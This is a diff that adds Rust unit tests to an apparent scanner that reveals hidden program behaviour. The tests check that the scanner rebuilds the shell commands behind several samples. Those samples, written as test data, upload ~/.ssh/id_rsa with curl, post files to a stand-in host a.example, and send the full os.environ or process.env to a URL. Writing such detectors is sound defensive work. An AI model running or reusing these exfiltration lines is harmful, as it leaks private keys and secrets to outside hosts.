@@ -225,6 +225,55 @@ fn markup_inside_words_is_undone() {
 }
 
 #[test]
+fn arguments_of_a_program_are_joined() {
+    for (text, shown) in [
+        (
+            "run([\"curl\", \"-T\", os.path.expanduser(\"~/.ssh/id_rsa\"), url])",
+            "curl -T ~/.ssh/id_rsa $url",
+        ),
+        (
+            "execFile('/usr/bin/curl', ['-d', '@k', 'https://a.example'], done)",
+            "/usr/bin/curl -d @k https://a.example $done",
+        ),
+        (
+            "Command::new(\"curl\").args([\"-d\", \"@k\"]).arg(\"https://a.example\")",
+            "curl -d @k https://a.example",
+        ),
+    ] {
+        let hidden = hidden(text);
+        assert!(hidden.contains(shown), "{text}: {hidden}");
+    }
+    for text in [
+        "tools = [\"curl\", \"jq\"]\n",
+        "if which(\"curl\") is None:\n    raise Missing(\"curl\")\n",
+        "name: 'curl'\n",
+    ] {
+        assert!(!hidden(text).contains("curl "), "{text}: {}", hidden(text));
+    }
+}
+
+#[test]
+fn the_environment_is_known_by_its_other_names() {
+    for (text, shown) in [
+        (
+            "from os import environ\npost(u, json=dict(environ))\n",
+            "json=dict(os.environ)",
+        ),
+        (
+            "const e = process.env;\nfetch(u, {body: f(e)})\n",
+            "f(process.env)",
+        ),
+        (
+            "e = os.environ\npost(u, json=dict(e))\n",
+            "dict(os.environ)",
+        ),
+    ] {
+        assert!(hidden(text).contains(shown), "{text}: {}", hidden(text));
+    }
+    assert_eq!(hidden("const env = process.env.HOME;\nrun(env)\n"), "");
+}
+
+#[test]
 fn ordinary_layouts_and_markup_hide_nothing() {
     for text in [
         "| 10 | 20 | 30 |\n| 40 | 41 | 42 |\n| 45 | 50 | 55 |\n| 65 | 70 | 75 |\n",
